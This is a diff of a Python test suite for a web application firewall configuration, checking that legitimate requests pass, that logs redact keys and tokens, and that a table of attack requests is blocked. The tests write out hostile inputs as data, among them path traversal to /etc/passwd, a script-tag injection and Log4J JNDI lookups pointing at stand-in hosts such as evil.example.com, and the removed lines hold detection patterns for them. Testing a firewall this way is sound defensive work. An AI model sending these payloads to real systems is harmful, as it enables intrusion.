@@ -1,29 +1,21 @@
-"""WAF: what it blocks, and that it never blocks a task for what the task says (docs/infrastructure.md)."""
+"""WAF: every request that a client may make passes, and attacks are blocked (docs/adr, number 17)."""
 
 import json
-import re
-from pathlib import Path
 from typing import Any
 
 import pytest
 
 from outpost.config import load
-from outpost_constructs.firewall import GROUPS, TASK_PATHS
+from outpost.waf.managed_rules import GROUPS
+from outpost.waf.request import WebRequest
+from outpost.waf.web_acl import evaluate
+from tests.infra.api_requests import OURS, PROMPTS, legitimate_requests
 from tests.infra.assembly import Assembly
 from tests.infra.conftest import ROOT
 
-PROMPTS: list[dict[str, Any]] = json.loads((Path(__file__).parent / "prompts.json").read_text(encoding="utf-8"))
-SHAPES = {
-    "SizeRestrictions_BODY": re.compile(r"(?s).{8193,}"),
-    "EC2MetaDataSSRF_BODY": re.compile(r"169\.254\.169\.254|/latest/meta-data"),
-    "GenericLFI_BODY": re.compile(r"\.\./\.\./|/etc/passwd|/proc/self"),
-    "GenericRFI_BODY": re.compile(r"https?://\d{1,3}(\.\d{1,3}){3}"),
-    "CrossSiteScripting_BODY": re.compile(r"(?i)<script|onerror=|onclick=|javascript:"),
-    "JavaDeserializationRCE_BODY": re.compile(r"java\.lang\.Runtime|ProcessBuilder\(|rO0AB"),
-    "Log4JRCE_BODY": re.compile(r"\$\{jndi:"),
-    "ReactJSRCE_BODY": re.compile(r'__proto__|\$1:constructor|"then":'),
-}
-"""What each rule that inspects bodies looks for, as far as AWS documents it."""
+PUBLIC = [path.stem for path in (ROOT / "config").glob("*.toml") if load(path).ingress.waf]
+LABELS = {rule.name: rule.label for rules in GROUPS.values() for rule in rules}
+BODY_RULES = [rule for rules in GROUPS.values() for rule in rules if rule.name.endswith("_BODY")]
 
 
 def acl(assembly: Assembly, environment: str) -> dict[str, Any]:
@@ -32,7 +24,11 @@ def acl(assembly: Assembly, environment: str) -> dict[str, Any]:
     return properties
 
 
-PUBLIC = [path.stem for path in (ROOT / "config").glob("*.toml") if load(path).ingress.waf]
+def counted(rules: dict[str, Any]) -> set[str]:
+    """Return the managed rules that only count."""
+    groups = (rule["Statement"].get("ManagedRuleGroupStatement", {}) for rule in rules["Rules"])
+    overrides = (override for group in groups for override in group.get("RuleActionOverrides", ()))
+    return {override["Name"] for override in overrides if "Count" in override["ActionToUse"]}
 
 
 def test_public_environments_have_a_firewall_and_only_they(assembly: Assembly, environment: str) -> None:
@@ -40,44 +36,89 @@ def test_public_environments_have_a_firewall_and_only_they(assembly: Assembly, e
 
 
 @pytest.mark.parametrize("name", PUBLIC)
-def test_these_rules_still_block_where_tasks_arrive(assembly: Assembly, name: str) -> None:
-    """By address, reputation, path, query and headers; by bodies only elsewhere."""
-    rules = {rule["Name"]: rule for rule in acl(assembly, name)["Rules"]}
-    blocking = {rule for rule, settings in rules.items() if "Block" in settings.get("Action", {})}
-    groups = {rule for rule, settings in rules.items() if settings.get("OverrideAction") == {"None": {}}}
-
-    assert blocking == {"requests-per-address", "bodies-elsewhere"}
-    assert groups == set(GROUPS)
-    excluded = [
-        statement["NotStatement"]["Statement"]["ByteMatchStatement"]["SearchString"]
-        for statement in rules["bodies-elsewhere"]["Statement"]["AndStatement"]["Statements"]
-        if "NotStatement" in statement
-    ]
-    assert excluded == list(TASK_PATHS) == ["/dispatch", "/mcp"]
-
-
-@pytest.mark.parametrize("name", PUBLIC)
-def test_every_rule_that_inspects_bodies_counts(assembly: Assembly, name: str) -> None:
-    counted = {
-        override["Name"]
-        for rule in acl(assembly, name)["Rules"]
-        for override in rule["Statement"].get("ManagedRuleGroupStatement", {}).get("RuleActionOverrides", ())
-        if "Count" in override["ActionToUse"]
+def test_every_legitimate_request_passes(assembly: Assembly, name: str) -> None:
+    rules = acl(assembly, name)
+    blocked = {
+        (decision.rule, request.method, request.path, request.query[:80], request.body[:80])
+        for request in legitimate_requests()
+        if (decision := evaluate(rules, request)).blocked
     }
+    assert blocked == set()
 
-    assert counted == set(SHAPES)
+
+def test_every_rule_that_only_counts_would_block_a_legitimate_request(assembly: Assembly) -> None:
+    rules = acl(assembly, "prod")
+    labels = {label for request in legitimate_requests() for label in evaluate(rules, request).labels}
+    assert labels >= {LABELS[name] for name in counted(rules)}
+
+
+def test_every_label_that_is_matched_is_one_that_a_counting_rule_adds(assembly: Assembly) -> None:
+    """A label with a slip of the pen would match nothing."""
+    rules = acl(assembly, "prod")
+    text = json.dumps(rules)
+    matched = {label for label in LABELS.values() if f'"{label}"' in text}
+    assert text.count('"awswaf:') == len(matched)
+    assert matched == {LABELS[name] for name in counted(rules)} - {LABELS["NoUserAgent_HEADER"]}
+
+
+ID, TRAVERSAL, SCRIPT = "01K9ZJ3J0X4T8WB6Q1V5N7M2CD", "../../../../etc/passwd", "<script>alert(1)</script>"
+
+
+def attack(path: str, query: str = "", method: str = "GET", body: bytes = b"", **headers: str) -> WebRequest:
+    own = tuple((name.replace("_", "-"), value) for name, value in headers.items())
+    return WebRequest(method, path, query, (*own, *OURS), body)
+
+
+CORE, BAD = "AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"
+ATTACKS = {
+    "a log": (attack(f"/artifacts/{ID}/output.log"), f"{CORE}/RestrictedExtensions_URIPATH"),
+    "a configuration": (attack("/app.ini"), f"{CORE}/RestrictedExtensions_URIPATH"),
+    "a traversal": (attack(f"/dispatch/{TRAVERSAL}"), f"{CORE}/GenericLFI_URIPATH"),
+    "an encoded traversal": (attack("/dispatch/%2e%2e%2f%2e%2e%2fetc"), f"{CORE}/GenericLFI_URIPATH"),
+    "a script in a path": (attack(f"/{SCRIPT}"), f"{CORE}/CrossSiteScripting_URIPATH"),
+    "a long path": (attack("/" + "a" * 1_024), f"{CORE}/SizeRestrictions_URIPATH"),
+    "a system file": (attack("/static/proc/version"), "AWSManagedRulesLinuxRuleSet/LFI_URIPATH"),
+    "a Java archive": (attack("/WEB-INF/web.xml"), f"{BAD}/ExploitablePaths_URIPATH"),
+    "a lookup in a path": (attack("/${jndi:ldap://evil/a}"), f"{BAD}/Log4JRCE_URIPATH"),
+    "a scanner": (attack("/", User_Agent="Mozilla/5.0 (Nessus)"), f"{CORE}/UserAgent_BadBots_HEADER"),
+    "a lookup in a header": (attack("/dispatch", X="${jndi:ldap://evil.example.com/}"), f"{BAD}/Log4JRCE_HEADER"),
+    "another host": (attack("/", Host="localhost:8080"), f"{BAD}/Host_localhost_HEADER"),
+    "another method": (attack("/", method="PROPFIND"), f"{BAD}/PROPFIND_METHOD"),
+    "many cookies": (attack("/", Cookie="a=" + "b" * 10_240), f"{CORE}/SizeRestrictions_Cookie_HEADER"),
+    "a traversal in a query": (attack("/workspaces", f"cursor={TRAVERSAL}"), "queries-elsewhere"),
+    "a script in a query": (attack(f"/dispatch/{ID}", f"logLimit={SCRIPT}"), "queries-elsewhere"),
+    "a long query": (attack("/tenants", "cursor=" + "a" * 2_048), "queries-elsewhere"),
+    "a script in a body": (attack("/keys/1/rotate", method="POST", body=SCRIPT.encode()), "bodies-elsewhere"),
+    "a long body": (attack("/workspaces", method="POST", body=b"a" * 8_193), "bodies-elsewhere"),
+}
 
 
 @pytest.mark.parametrize("name", PUBLIC)
-def test_each_address_is_limited_and_requests_are_logged_without_keys(assembly: Assembly, name: str) -> None:
-    (limit,) = (r["Statement"]["RateBasedStatement"] for r in acl(assembly, name)["Rules"] if r["Priority"] == 0)
+@pytest.mark.parametrize("kind", ATTACKS)
+def test_an_attack_is_blocked(assembly: Assembly, name: str, kind: str) -> None:
+    request, rule = ATTACKS[kind]
+    decision = evaluate(acl(assembly, name), request)
+    assert (decision.blocked, decision.rule) == (True, rule)
+
+
+@pytest.mark.parametrize("name", PUBLIC)
+def test_each_address_is_limited(assembly: Assembly, name: str) -> None:
+    limit = load(ROOT / "config" / f"{name}.toml").ingress.requests_per_address
+    request = WebRequest("GET", "/health", "", OURS)
+    assert not evaluate(acl(assembly, name), request, limit).blocked
+    assert evaluate(acl(assembly, name), request, limit + 1).rule == "requests-per-address"
+
+
+@pytest.mark.parametrize("name", PUBLIC)
+def test_requests_are_logged_without_keys_and_tokens(assembly: Assembly, name: str) -> None:
     (logging,) = (r["Properties"] for _, r in assembly.of_type("AWS::WAFv2::LoggingConfiguration", name))
     groups = [g["Properties"]["LogGroupName"] for _, g in assembly.of_type("AWS::Logs::LogGroup", name)]
     destination = json.dumps(logging["LogDestinationConfigs"])
 
-    assert limit["Limit"] == load(ROOT / "config" / f"{name}.toml").ingress.requests_per_address
     assert any(group in destination for group in groups if group.startswith("aws-waf-logs-"))
-    assert {field["SingleHeader"]["Name"] for field in logging["RedactedFields"]} == {"authorization", "x-api-key"}
+    headers = {field["SingleHeader"]["Name"] for field in logging["RedactedFields"] if "SingleHeader" in field}
+    assert headers == {"authorization", "x-api-key"}
+    assert {"QueryString": {}} in logging["RedactedFields"]
 
 
 def test_there_are_fifty_realistic_prompts() -> None:
@@ -87,12 +128,6 @@ def test_there_are_fifty_realistic_prompts() -> None:
 
 @pytest.mark.parametrize("prompt", PROMPTS, ids=[prompt["task"][:40] for prompt in PROMPTS])
 def test_a_prompt_names_the_rules_that_would_have_blocked_it(prompt: dict[str, Any]) -> None:
-    body = json.dumps({"agent": "claude", "task": prompt["task"]})
-    # JSON escapes quotes only: what the rules look for is still there.
-    hits = {rule for rule, shape in SHAPES.items() if shape.search(body.replace('\\"', '"'))}
-
-    assert hits == set(prompt["hits"])
-
-
-def test_every_rule_that_counts_would_have_blocked_a_realistic_prompt() -> None:
-    assert {hit for prompt in PROMPTS for hit in prompt["hits"]} == set(SHAPES)
+    body = json.dumps({"agent": "claude", "task": prompt["task"]}).encode()
+    request = WebRequest("POST", "/elsewhere", "", OURS, body)
+    assert {rule.name for rule in BODY_RULES if rule.matches(request)} == set(prompt["hits"])
